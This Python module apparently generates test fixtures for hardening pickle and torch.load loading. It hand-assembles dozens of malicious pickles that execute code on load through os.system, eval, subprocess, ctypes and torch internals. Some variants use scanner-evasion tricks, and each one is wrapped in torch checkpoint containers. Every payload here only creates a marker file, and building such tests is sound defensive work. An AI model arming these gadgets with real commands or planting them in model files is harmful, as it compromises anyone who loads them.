"""Pickles that really run code when they are loaded: each kind leaves one empty file behind, the mark, and no more.

Written by hand, operation by operation, as no pickler would write them.
"""

import io
import marshal
import pickle
import struct
import zipfile
from collections.abc import Callable

Kind = Callable[[str], bytes]
MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2)


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def data(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def name4(module: str, attribute: str) -> bytes:
    return short(module) + short(attribute) + b"\x93"


def call(function: bytes, *args: bytes) -> bytes:
    return function + b"(" + b"".join(args) + b"tR"


def whole(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def shell(mark: str) -> bytes:
    return text(f"touch '{mark}'")


def code(mark: str) -> bytes:
    return text(f"open({mark!r}, 'w').close()")


def system(mark: str) -> bytes:
    return call(name("os", "system"), shell(mark))


def calls(module: str, attribute: str, *args: Callable[[str], bytes], protocol: int = 2) -> Kind:
    """Return the kind that calls one function."""
    return lambda mark: whole(call(name(module, attribute), *(arg(mark) for arg in args)), protocol)


def path(mark: str) -> bytes:
    return text(mark)


def fixed(value: object) -> Callable[[str], bytes]:
    return lambda mark: pickle.dumps(value, 2)[2:-1]


def touch_list(mark: str) -> bytes:
    return b"(" + text("touch") + text(mark) + b"l"


def function_of_bytes(mark: str) -> bytes:
    compiled = marshal.dumps(compile(f"open({mark!r}, 'w').close()", "", "exec"))
    function = call(name("types", "FunctionType"), call(name("marshal", "loads"), data(compiled)), b"}")
    return whole(call(function), 3)


def method(owner: bytes, attribute: str) -> bytes:
    return call(name("builtins", "getattr"), owner, text(attribute))


def nested(mark: str) -> bytes:
    return whole(system(mark))


KINDS: dict[str, Kind] = {
    "reduce": lambda mark: whole(system(mark)),
    "protocol 0": lambda mark: b"cos\nsystem\n(S\"touch '" + mark.encode() + b"'\"\ntR.",
    "stack global": lambda mark: whole(call(name4("os", "system"), shell(mark)), 4),
    "inst": lambda mark: whole(b"(" + shell(mark) + b"ios\nsystem\n"),
    "obj": lambda mark: whole(b"(" + name("os", "system") + shell(mark) + b"o"),
    "result dropped": lambda mark: whole(system(mark) + b"0}"),
    "popen": calls("subprocess", "Popen", touch_list),
    "eval": calls("builtins", "eval", code),
    "exec": calls("builtins", "exec", code),
    "python 2 commands": calls("commands", "getoutput", shell),
    "python 2 builtin": calls("__builtin__", "eval", code),
    "dotted": lambda mark: whole(call(name4("pathlib", "os.system"), shell(mark)), 4),
    "dotted through torch": lambda mark: whole(call(name4("torch.serialization", "os.system"), shell(mark)), 4),
    "dotted into torch": lambda mark: whole(
        call(name4("torch.library", "torch.utils.collect_env.run"), shell(mark)), 4
    ),
    "mixed memo": lambda mark: whole(
        short("system") + b"\x94" + short("os") + b"q\x05\x940" + b"0h\x05h\x00\x93(" + shell(mark) + b"tR", 4
    ),
    "memo by number": lambda mark: whole(
        short("os")
        + b"r\xff\xff\x00\x000"
        + short("system")
        + b"p77\n0j\xff\xff\x00\x00g77\n\x93"
        + b"("
        + shell(mark)
        + b"tR",
        4,
    ),
    "computed name": lambda mark: whole(
        call(name4("builtins", "str"), short("os")) + short("system") + b"\x93(" + shell(mark) + b"tR", 4
    ),
    "joined name": lambda mark: whole(
        call(name4("builtins", "str.join"), short(""), b"(" + short("o") + short("s") + b"l")
        + short("system")
        + b"\x93("
        + shell(mark)
        + b"tR",
        4,
    ),
    "getattr": lambda mark: whole(
        call(
            call(name("builtins", "getattr"), name("torch.serialization", "os"), text("system")), shell(mark)
        )
    ),
    "partial": lambda mark: whole(call(call(name("functools", "partial"), name("os", "system"), shell(mark)))),
    "method by dots": lambda mark: whole(
        call(name4("pathlib", "Path.touch"), call(name4("pathlib", "PosixPath"), path(mark))), 4
    ),
    "methodcaller": lambda mark: whole(
        call(call(name("operator", "methodcaller"), text("system"), shell(mark)), name("shutil", "os"))
    ),
    "pickle in bytes": lambda mark: whole(call(name("pickle", "loads"), data(nested(mark))), 3),
    "pickle for torch": lambda mark: whole(
        call(name("torch.storage", "_load_from_bytes"), data(nested(mark))), 3
    ),
    "pickle in pickles": lambda mark: whole(
        call(name("pickle", "loads"), data(whole(call(name("_pickle", "loads"), data(nested(mark))), 3))), 3
    ),
    "pickle in a file in memory": lambda mark: whole(
        call(name("pickle", "_load"), call(name("io", "BytesIO"), data(nested(mark)))), 3
    ),
    "timeit": calls("timeit", "timeit", code, fixed("pass"), lambda mark: name("time", "time"), fixed(1)),
    "spawn": calls("os", "spawnlp", fixed(0), fixed("touch"), fixed("touch"), path),
    "open": calls("builtins", "open", path, fixed("w")),
    "codecs": calls("codecs", "open", path, fixed("w")),
    "copy": calls("shutil", "copyfile", fixed("/dev/null"), path),
    "memmap": calls("numpy", "memmap", path, fixed("uint8"), fixed("w+"), fixed(0), fixed((1,))),
    "numpy save": calls(
        "numpy", "save", lambda mark: call(name("builtins", "open"), text(mark), text("wb")), fixed(1)
    ),
    "numpy runstring": calls("numpy.testing._private.utils", "runstring", code, fixed({})),
    "torch from_file": calls("torch", "from_file", path, fixed(True), fixed(4)),
    "fx": lambda mark: whole(call(name("torch.fx.graph_module", "_exec_with_source"), code(mark), b"}")),
    "extension": lambda mark: whole(
        call(name("copyreg", "add_extension"), text("os"), text("system"), b"K\xf0")
        + b"0\x82\xf0("
        + shell(mark)
        + b"tR"
    ),
    "setstate on a class": lambda mark: whole(
        name("argparse", "Namespace")
        + b"N}"
        + text("__setstate__")
        + name("os", "system")
        + b"s\x86b0"
        + name("argparse", "Namespace")
        + b")\x81"
        + shell(mark)
        + b"b"
    ),
    "rebuild calls": lambda mark: whole(
        call(
            name("torch._tensor", "_rebuild_from_type_v2"),
            name("os", "system"),
            name("torch", "Tensor"),
            b"(" + shell(mark) + b"t",
            b"}",
        )
    ),
    "map in a deque": lambda mark: whole(
        call(
            name("collections", "deque"),
            call(name("builtins", "map"), name("os", "system"), b"(" + shell(mark) + b"l"),
        )
    ),
    "reduce of getattr": lambda mark: whole(
        call(
            call(
                name("functools", "reduce"),
                name("builtins", "getattr"),
                b"(" + name("torch.serialization", "os") + text("system") + b"l",
            ),
            shell(mark),
        )
    ),
    "persistent id": lambda mark: whole(b"(" + text("storage") + system(mark) + b"tQ"),
    "frame too long": lambda mark: (
        b"\x80\x04\x95"
        + struct.pack("<Q", 4)
        + short("os")
        + short("system")
        + b"\x93("
        + shell(mark)
        + b"tR."
    ),
    "numbers as C reads them": lambda mark: whole(b"I0x10\n0L0x10L\n0" + system(mark)),
    "much before": lambda mark: whole(b"N0" * 1_100_000 + system(mark)),
    "broken behind": lambda mark: whole(system(mark))[:-1] + b"\xff\xff",
    "cut behind": lambda mark: whole(system(mark))[:-1],
    "raises behind": lambda mark: whole(system(mark) + b"0h\x77"),
    "at exit": calls("atexit", "register", lambda mark: name("os", "system"), shell),
    "when collected": lambda mark: whole(
        call(name("weakref", "finalize"), name("argparse", "Namespace"), name("os", "system"), shell(mark))
    ),
    "native": lambda mark: whole(
        call(
            call(name("builtins", "getattr"), call(name("ctypes", "CDLL"), b"N"), text("system")),
            call(name("builtins", "bytes"), shell(mark), text("ascii")),
        )
    ),
    "pkgutil": lambda mark: whole(call(call(name("pkgutil", "resolve_name"), text("os:system")), shell(mark))),
    "function of bytes": function_of_bytes,
    "dict get": lambda mark: whole(
        call(call(name4("builtins", "dict.get"), name4("numpy", "__builtins__"), short("eval")), code(mark)),
        4,
    ),
    "hidden builtins": lambda mark: whole(
        call(call(name4("torch.serialization", "__builtins__.get"), short("eval")), code(mark)), 4
    ),
    "sympify": calls("sympy.core.sympify", "sympify", code),
    "newobj_ex": lambda mark: whole(name("subprocess", "Popen") + b")}\x920" + system(mark), 4),
    "attribute that unpickling calls": lambda mark: whole(
        name("types", "SimpleNamespace")
        + b")\x81}"
        + text("__setstate__")
        + method(call(name("pathlib", "PosixPath"), path(mark)), "touch")
        + b"sbM\xb6\x01b"
    ),
    "rebuild sets a class": lambda mark: whole(
        call(
            name("torch._tensor", "_rebuild_from_type_v2"),
            name("builtins", "type"),
            name("builtins", "type"),
            b"(" + call(name("pathlib", "PosixPath"), path(mark)) + b"t",
            b"}" + text("__setstate__") + method(name("pathlib", "PosixPath"), "touch") + b"s",
        )
        + b"0"
        + call(name("pathlib", "PosixPath"), path(mark))
        + b"M\xb6\x01b"
    ),
    "hidden in a key": lambda mark: whole(b"}" + system(mark) + b"K\x01s"),
    "hidden in a state": lambda mark: whole(
        name("argparse", "Namespace") + b")\x81}" + text("a") + system(mark) + b"sb"
    ),
}  # fmt: skip


def in_zip(evil: bytes, **others: bytes) -> bytes:
    return archive({"archive/version": b"3\n", "archive/data.pkl": evil, **others})


def archive(files: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", method) as target:
        for entry, content in files.items():
            target.writestr(zipfile.ZipInfo(entry), content, compress_type=method)
    return packed.getvalue()


PLAIN = pickle.dumps({}, 2)
SYSTEM = pickle.dumps({"little_endian": True, "protocol_version": 1001, "type_sizes": {}}, 2)
OLD = [MAGIC, pickle.dumps(1001, 2), SYSTEM, PLAIN, pickle.dumps([], 2)]

# Where torch.load finds a pickle.
CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "zip": in_zip,
    "bare": lambda evil: evil,
    "deflated": lambda evil: archive({"a/version": b"3\n", "a/data.pkl": evil}, zipfile.ZIP_DEFLATED),
    "capitals": lambda evil: archive({"a/data.pkl": PLAIN, "a/version": b"3\n", "a/DATA.PKL": evil}),
    "not the first": lambda evil: archive(
        {"a/xdata.pkl": PLAIN, "a/xdata/0": b"\0" * 16, "a/version": b"3\n", "a/data.pkl": evil}
    ),
    "old content": lambda evil: b"".join([*OLD[:3], evil, OLD[4]]),
    "old system": lambda evil: b"".join([*OLD[:2], evil, *OLD[3:]]),
    "old protocol": lambda evil: b"".join([OLD[0], evil, *OLD[2:]]),
    "old keys": lambda evil: b"".join([*OLD[:4], evil]),
}
